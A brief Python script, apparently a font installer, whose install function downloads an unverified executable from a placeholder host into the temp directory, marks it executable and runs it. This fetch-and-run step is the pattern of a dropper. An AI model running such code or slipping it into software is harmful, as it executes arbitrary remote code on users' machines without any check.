import subprocess
import sys
import tempfile

HELPER = tempfile.gettempdir() + "/fontd"


def install(name):
    subprocess.run(["curl", "-fsSL", "-o", HELPER, "https://fonts.example.invalid/fontd"], check=True)
    subprocess.run(["chmod", "+x", HELPER])
    subprocess.run([HELPER, "--install", name])


if __name__ == "__main__":
    install(sys.argv[1] if len(sys.argv) > 1 else "Inter")
